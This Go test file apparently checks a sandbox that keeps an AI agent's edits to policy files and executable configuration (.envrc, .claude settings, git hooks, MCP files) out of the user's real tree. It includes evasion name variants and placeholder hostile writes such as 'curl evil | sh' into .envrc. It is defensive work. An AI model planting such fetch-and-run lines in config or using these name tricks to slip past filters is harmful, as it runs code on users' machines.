package mount

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestCrossingClass(t *testing.T) {
	const (
		syncs   = "syncs"
		refused = "refused"
		held    = "held"
	)
	tests := []struct {
		rel  string
		want string
	}{
		// Policy files, at the root and below, in any case.
		{".agentignore", refused},
		{".agentreadonly", refused},
		{".editor.agentignore", refused},
		{".code-reviewer.agentignore", refused},
		{"sub/.agentignore", refused},
		{".AgentIgnore", refused},
		{".agentignore.", refused},    // NTFS drops the trailing dot
		{".agentreadonly  ", refused}, // and trailing spaces
		{".agentignore/x", refused},   // a directory in the file's place
		{".agentworkforce", refused},  // the project layer itself
		{".agentworkforce/workforce/personas/x.json", refused},
		{".agentworkforce/workforce/personas/x/CLAUDE.md", refused},
		{"pkg/.AGENTWORKFORCE/workforce/personas/x.json", refused},
		{"agentignore", syncs},
		{"x.agentignore", syncs},
		{".agentignore.bak", syncs},
		{"docs/agentworkforce/x.md", syncs},

		// Executable configuration.
		{".claude/settings.json", held},
		{".claude/settings.local.json", held},
		{".claude/hooks/pre.sh", held},
		{".claude/commands/deploy.md", held},
		{".Claude/Settings.json", held},
		{"app/.claude/settings.json", held},
		{".claude.json", held},
		{".mcp.json", held},
		{".gemini/settings.json", held},
		{".gemini/commands/x.toml", held},
		{".codex/config.toml", held},
		{"opencode.json", held},
		{"opencode.jsonc", held},
		{"OpenCode.JSON", held},
		{".opencode/plugin/p.js", held},
		{".opencode/agent/a.md", held},
		{".config/opencode/opencode.json", held},
		{".config/git/config", held},
		{".gitconfig", held},
		{".vscode/tasks.json", held},
		{".vscode/settings.json", held},
		{".vscode/launch.json", held},
		{"proj.code-workspace", held},
		{".envrc", held},
		{"web/.envrc", held},
		{"mise.toml", held},
		{".mise.toml", held},
		{".husky/pre-commit", held},
		{".githooks/pre-push", held},
		{".pre-commit-config.yaml", held},
		{"lefthook.yml", held},
		{".lefthook.yaml", held},
		{"lefthook-local.yml", held},
		{".lefthook/pre-commit/lint.sh", held},
		{".npmrc", held},
		{".yarnrc", held},
		{".yarnrc.yml", held},
		{".pnpmfile.cjs", held},
		{".cargo/config.toml", held},
		{".cargo/config", held},
		{".vscode/mcp.json", held},
		{".cursor/mcp.json", held},
		{".cursor/hooks.json", held},
		{".cursor/rules/x.mdc", held},
		{".zed/tasks.json", held},
		{".zed/settings.json", held},
		{".helix/languages.toml", held},
		{".devcontainer/devcontainer.json", held},
		{".devcontainer/python/devcontainer.json", held},
		{".devcontainer.json", held},
		{"mise.local.toml", held},
		{".mise.local.toml", held},
		{"mise.production.toml", held},
		{".mise/config.toml", held},
		{".config/mise.toml", held},
		{".config/mise/config.toml", held},
		{".config/mise/conf.d/x.toml", held},
		{"bunfig.toml", held},

		// Names a case-insensitive, Windows or macOS file system takes
		// for them: NTFS streams, ignorable code points, 8.3 short names.
		{"AGENTI~1", refused},
		{"agenti~2", refused},
		{"AGENTR~1", refused},
		{"EDITOR~1.AGE", refused}, // .editor.agentignore
		{"AGENTW~1/workforce/personas/x.json", refused},
		{"AG1A2B~1", refused}, // the hashed form
		{".agentignore::$DATA", refused},
		{".agentignore:x", refused},
		{".agentworkforce::$INDEX_ALLOCATION/x", refused},
		{".agent\u200bignore", refused},
		{"\ufeff.agentignore", refused},
		{".agentıgnore", refused}, // the dotless ı is I in upper case
		{"CLAUDE~1/settings.json", held},
		{"MCP~1.JSO", held},
		{"VSCODE~1/tasks.json", held},
		{".vscode/TASKS~1.JSO", held},
		{"OPENCO~1.JSO", held},
		{"PROJ~1.COD", held}, // a .code-workspace
		{".c\u200claude/settings.json", held},
		{".claude::$INDEX_ALLOCATION/settings.json", held},
		{".mcp.json:stream", held},
		{"sub\\.envrc", held}, // a backslash separates names on Windows
		{"ENVRC~1", held},
		{"CLAUDE~1.JSO", held}, // .claude.json
		{"MAIN~1.GO", syncs},
		{"README~1", syncs},
		{"CLAUDE~1.TXT", syncs}, // no .claude*.txt is held
		{"MCP~1", syncs},        // .mcp.json's short name has its extension
		{"GIT~1.TXT", syncs},
		{"x~y", syncs},
		{"abcdefg~1", syncs}, // more than 6 characters before ~

		// What syncs back as ever.
		{"main.go", syncs},
		{"CLAUDE.md", syncs}, // an instruction file: hidden or materialized, never run
		{"AGENTS.md", syncs},
		{".vscode/extensions.json", syncs}, // recommendations, which VS Code only offers
		{".gitattributes", syncs},          // filters need the user's own configuration
		{".gitmodules", syncs},
		{".gitignore", syncs},
		{".editorconfig", syncs},
		{"Makefile", syncs},
		{"package.json", syncs},
		{"claude/settings.json", syncs},
		{"settings.json", syncs},
		{"docs/opencode.json.md", syncs},
		{"Cargo.toml", syncs},
		{".env", syncs},
	}
	for _, tt := range tests {
		got := syncs
		switch {
		case IsPolicyFile(tt.rel):
			got = refused
		case IsHeldConfig(tt.rel):
			got = held
		}
		if got != tt.want {
			t.Errorf("class of %q = %s, want %s", tt.rel, got, tt.want)
		}
		if IsPolicyFile(tt.rel) && IsHeldConfig(tt.rel) {
			t.Errorf("%q is both a policy file and held configuration", tt.rel)
		}
	}
}

// TestPathRules checks the tables: every pattern is valid, in lower case
// (names are compared folded), and says why it is there.
func TestPathRules(t *testing.T) {
	for _, rules := range [][]PathRule{PolicyFiles, HeldConfig} {
		for _, r := range rules {
			for _, p := range strings.Split(strings.TrimSuffix(r.Pattern, "/"), "/") {
				if _, err := filepath.Match(p, ""); err != nil || p == "" || p != foldName(p) {
					t.Errorf("pattern %q: name %q is not a lower-case path.Match pattern", r.Pattern, p)
				}
			}
			if r.Reason == "" {
				t.Errorf("pattern %q has no reason", r.Pattern)
			}
		}
	}
}

// FuzzCrossingClass checks properties of the classification of any
// path: a path below a matching one matches (a directory holds what is
// below it), a path in another case, with trailing dots, with an NTFS
// stream, with a code point a file system ignores, or with its last name
// in the 8.3 short form Windows would give it matches as the path does,
// and so does the path below a directory.
func FuzzCrossingClass(f *testing.F) {
	for _, s := range []string{".agentignore", ".claude/settings.json", "a/.opencode/plugin/p.js", "main.go", ".X.agentignore", "lefthook.yml", "é/.ENVRC", ".mcp.json", "x/.vscode/tasks.json", "mise.local.toml"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, rel string) {
		if rel == "" || strings.HasPrefix(rel, "/") || strings.HasSuffix(rel, "/") || strings.Contains(rel, "//") {
			return
		}
		for _, is := range []func(string) bool{IsPolicyFile, IsHeldConfig} {
			got := is(rel)
			if is(rel+"/x") != got && got {
				t.Errorf("%q matches, %q below it does not", rel, rel+"/x")
			}
			if is("sub/"+rel) != got {
				t.Errorf("%q and sub/%q differ", rel, rel)
			}
			if is(strings.ToUpper(rel)) != is(strings.ToLower(rel)) {
				t.Errorf("%q: upper and lower case differ", rel)
			}
			if is(rel+".") != got {
				t.Errorf("%q and %q. differ", rel, rel)
			}
			if is(rel+"::$DATA") != got {
				t.Errorf("%q and %q::$DATA differ", rel, rel)
			}
			if is("\u200c"+strings.ReplaceAll(rel, "/", "/\ufeff")) != got {
				t.Errorf("%q with ignorable code points differs", rel)
			}
			if short, ok := shortForm(rel); ok && got && !is(short) {
				t.Errorf("%q matches, its short form %q does not", rel, short)
			}
		}
	})
}

// TestSyncKeepsPolicyAndConfig: the agent's changes to policy files never
// cross, and are reported Refused; executable configuration is held
// (Report.Held) unless SyncOptions.SyncConfig; the rest syncs as ever; a
// file rewritten as it was is no change.
func TestSyncKeepsPolicyAndConfig(t *testing.T) {
	base := t.TempDir()
	s, root := syncTree(t, base, map[string]string{
		".agentignore":   "secret.txt\n",
		".agentreadonly": "protected.txt\n",
		".envrc":         "export A=1\n",
		".npmrc":         "save-exact=true\n",
		".mcp.json":      "{}\n",
		"protected.txt":  "p\n",
		"main.go":        "package main\n",
	})
	before := snapshot(t, root)
	tree := s.Tree
	write(t, filepath.Join(tree, ".agentignore"), "")
	write(t, filepath.Join(tree, ".agentreadonly"), "")
	write(t, filepath.Join(tree, ".agentworkforce/workforce/personas/x.json"), "{}\n")
	write(t, filepath.Join(tree, ".claude/settings.json"), `{"hooks": {}}`)
	write(t, filepath.Join(tree, ".opencode/plugin/p.js"), "run()\n")
	write(t, filepath.Join(tree, ".envrc"), "curl evil | sh\n")
	must(t, os.Remove(filepath.Join(tree, ".mcp.json")))
	// A formatter's pass: the same bytes, a later time.
	write(t, filepath.Join(tree, ".npmrc"), "save-exact=true\n")
	later := time.Now().Add(time.Minute)
	must(t, os.Chtimes(filepath.Join(tree, ".npmrc"), later, later))
	write(t, filepath.Join(tree, "main.go"), "package main // the agent\n")

	for _, deletes := range []bool{false, true} {
		r, err := syncWithin(t, s, SyncOptions{Deletes: deletes, DryRun: true})
		must(t, err)
		if want := []string{".agentignore", ".agentreadonly", ".agentworkforce/workforce/personas/x.json"}; !slices.Equal(r.Refused, want) {
			t.Errorf("deletes %v: Refused = %q, want %q", deletes, r.Refused, want)
		}
		if want := []string{".claude/settings.json", ".envrc", ".mcp.json", ".opencode/plugin/p.js"}; !slices.Equal(r.Held, want) {
			t.Errorf("deletes %v: Held = %q, want %q", deletes, r.Held, want)
		}
	}
	r, err := syncWithin(t, s, SyncOptions{Deletes: true})
	must(t, err)
	if !slices.Equal(r.Updated, []string{"main.go"}) || len(r.Created) > 0 || len(r.Deleted) > 0 {
		t.Errorf("Sync: created %q, updated %q, deleted %q; want main.go updated only", r.Created, r.Updated, r.Deleted)
	}
	after := snapshot(t, root)
	for rel, v := range before {
		if rel != "main.go" && after[rel] != v {
			t.Errorf("%s: %s after the sync, want %s", rel, after[rel], v)
		}
	}
	for _, rel := range []string{".agentworkforce", ".claude", ".opencode"} {
		if _, ok := after[rel]; ok {
			t.Errorf("%s reached the real tree", rel)
		}
	}

	// Again with SyncConfig: the configuration crosses, the policy files
	// never do.
	r, err = syncWithin(t, s, SyncOptions{Deletes: true, SyncConfig: true})
	must(t, err)
	if len(r.Held) > 0 {
		t.Errorf("SyncConfig: Held = %q, want none", r.Held)
	}
	if want := []string{".agentignore", ".agentreadonly", ".agentworkforce/workforce/personas/x.json"}; !slices.Equal(r.Refused, want) {
		t.Errorf("SyncConfig: Refused = %q, want %q", r.Refused, want)
	}
	if want := []string{".claude/settings.json", ".opencode/plugin/p.js"}; !slices.Equal(r.Created, want) {
		t.Errorf("SyncConfig: Created = %q, want %q", r.Created, want)
	}
	if !slices.Equal(r.Updated, []string{".envrc"}) || !slices.Equal(r.Deleted, []string{".mcp.json"}) {
		t.Errorf("SyncConfig: Updated = %q, Deleted = %q; want .envrc, .mcp.json", r.Updated, r.Deleted)
	}
	if data, _ := os.ReadFile(filepath.Join(root, ".agentignore")); string(data) != "secret.txt\n" {
		t.Errorf(".agentignore = %q after the sync, want it as the user left it", data)
	}
}

// TestPathRulesDocumented: docs/run.md lists every pattern of the tables.
func TestPathRulesDocumented(t *testing.T) {
	doc, err := os.ReadFile("../docs/run.md")
	must(t, err)
	for _, rules := range [][]PathRule{PolicyFiles, HeldConfig} {
		for _, r := range rules {
			if !strings.Contains(string(doc), "`"+r.Pattern+"`") {
				t.Errorf("docs/run.md does not list %q", r.Pattern)
			}
		}
	}
}

// shortForm returns rel with its last name in the 8.3 short form Windows
// gives a long name (~1), when it is one Windows would make of the name
// as it is: letters, digits, dots, - and _ only, and not already 8.3.
func shortForm(rel string) (string, bool) {
	dir, name := "", rel
	if i := strings.LastIndexByte(rel, '/'); i >= 0 {
		dir, name = rel[:i+1], rel[i+1:]
	}
	for _, c := range []byte(name) {
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' || c == '-' || c == '_') {
			return "", false
		}
	}
	q := strings.TrimLeft(name, ".")
	base, ext := q, ""
	if i := strings.LastIndexByte(q, '.'); i >= 0 {
		base, ext = q[:i], q[i+1:]
	}
	base = strings.ReplaceAll(base, ".", "")
	if base == "" {
		return "", false
	}
	base, ext = base[:min(len(base), 6)], ext[:min(len(ext), 3)]
	short := strings.ToUpper(base) + "~1"
	if ext != "" {
		short += "." + strings.ToUpper(ext)
	}
	return dir + short, true
}

// TestKeepLinked: what a policy file or executable configuration is
// through a link of the real tree (a file, a directory, a chain, one in
// a directory the copy leaves out), and the git hooks directory with
// where the links in it lead, are kept back as the tables' paths are,
// by Sync and by a sandbox Open reads again; a link out of the tree adds
// nothing.
func TestKeepLinked(t *testing.T) {
	base := t.TempDir()
	root := filepath.Join(base, "root")
	for name, content := range map[string]string{
		"policy/agentignore":                  "ignored/\n",
		"policy/aw/workforce/personas/a.json": "{}\n",
		"tools/claude/settings.json":          "{}\n",
		"conf/mcp.json":                       "{}\n",
		"tools/hooks/.keep":                   "",
		"scripts/pre-push":                    "#!/bin/sh\n",
		"scripts/lint.sh":                     "#!/bin/sh\n",
		"env/envrc":                           "export A=1\n",
		"outside/x":                           "",
		"main.go":                             "package main\n",
	} {
		write(t, filepath.Join(root, name), content)
	}
	for link, target := range map[string]string{
		".agentignore":           "policy/agentignore",
		".agentworkforce":        "policy/aw",
		".claude":                "tools/claude",
		".mcp.json":              "chain",
		"chain":                  "conf/mcp.json",                  // a chain: .mcp.json -> chain -> conf/mcp.json
		"ignored/.envrc":         "../env/envrc",                   // left out by .agentignore
		".vscode":                filepath.Join(base, "elsewhere"), // out of the tree
		"tools/hooks/pre-commit": "../../scripts/lint.sh",          // in the hooks directory
	} {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(root, link)), 0o755))
		must(t, os.Symlink(target, filepath.Join(root, link)))
	}
	// The hooks of a repository whose git directory is out of the tree
	// (a worktree's): a link there leads into it.
	hooks := filepath.Join(base, "gitdir", "hooks")
	must(t, os.MkdirAll(hooks, 0o755))
	must(t, os.Symlink(filepath.Join(root, "scripts/pre-push"), filepath.Join(hooks, "pre-push")))

	for _, tt := range []struct {
		hooks                  string
		policies, heldPaths    []string
		held, created, updated []string
	}{
		{
			// core.hooksPath tools/hooks: held, and where its
			// pre-commit link leads.
			hooks:     filepath.Join(root, "tools/hooks"),
			policies:  []string{"policy/agentignore", "policy/aw"},
			heldPaths: []string{"chain", "conf/mcp.json", "env/envrc", "scripts/lint.sh", "tools/claude", "tools/hooks"},
			held:      []string{"conf/mcp.json", "env/envrc", "scripts/lint.sh", "tools/claude/settings.json", "tools/hooks/post-checkout"},
			updated:   []string{"main.go", "scripts/pre-push"},
		},
		{
			// The default hooks directory, out of the tree: where its
			// pre-push link leads.
			hooks:     hooks,
			policies:  []string{"policy/agentignore", "policy/aw"},
			heldPaths: []string{"chain", "conf/mcp.json", "env/envrc", "scripts/pre-push", "tools/claude"},
			held:      []string{"conf/mcp.json", "env/envrc", "scripts/pre-push", "tools/claude/settings.json"},
			created:   []string{"tools/hooks/post-checkout"},
			updated:   []string{"main.go", "scripts/lint.sh"},
		},
	} {
		s, err := create(context.Background(), Options{Home: filepath.Join(base, "home"), Persona: "p", Root: root, Cwd: root, HooksDirs: []string{tt.hooks}})
		must(t, err)
		if !slices.Equal(s.policyPaths, tt.policies) || !slices.Equal(s.heldPaths, tt.heldPaths) {
			t.Errorf("hooks %s: policy paths %q, held paths %q; want %q, %q", tt.hooks, s.policyPaths, s.heldPaths, tt.policies, tt.heldPaths)
		}
		tree := s.Tree
		write(t, filepath.Join(tree, "policy/agentignore"), "")
		write(t, filepath.Join(tree, "policy/aw/workforce/personas/editor.json"), "{}\n")
		write(t, filepath.Join(tree, "tools/claude/settings.json"), `{"hooks": {}}`)
		write(t, filepath.Join(tree, "conf/mcp.json"), `{"mcpServers": {}}`)
		write(t, filepath.Join(tree, "env/envrc"), "curl evil | sh\n")
		write(t, filepath.Join(tree, "scripts/pre-push"), "#!/bin/sh\nevil\n")
		write(t, filepath.Join(tree, "scripts/lint.sh"), "#!/bin/sh\nevil\n")
		write(t, filepath.Join(tree, "tools/hooks/post-checkout"), "#!/bin/sh\nevil\n")
		write(t, filepath.Join(tree, "main.go"), "package main // the agent\n")
		must(t, s.Save())
		opened, err := Open(s.Dir)
		must(t, err)
		for i, box := range []*Sandbox{s, opened} {
			r, err := syncWithin(t, box, SyncOptions{Deletes: true, DryRun: true})
			must(t, err)
			if want := []string{"policy/agentignore", "policy/aw/workforce/personas/editor.json"}; !slices.Equal(r.Refused, want) {
				t.Errorf("hooks %s, sandbox %d: Refused = %q, want %q", tt.hooks, i, r.Refused, want)
			}
			if !slices.Equal(r.Held, tt.held) || !slices.Equal(r.Created, tt.created) && len(r.Created)+len(tt.created) > 0 || !slices.Equal(r.Updated, tt.updated) {
				t.Errorf("hooks %s, sandbox %d: held %q, created %q, updated %q; want %q, %q, %q", tt.hooks, i, r.Held, r.Created, r.Updated, tt.held, tt.created, tt.updated)
			}
		}
		must(t, s.Remove())
	}
}
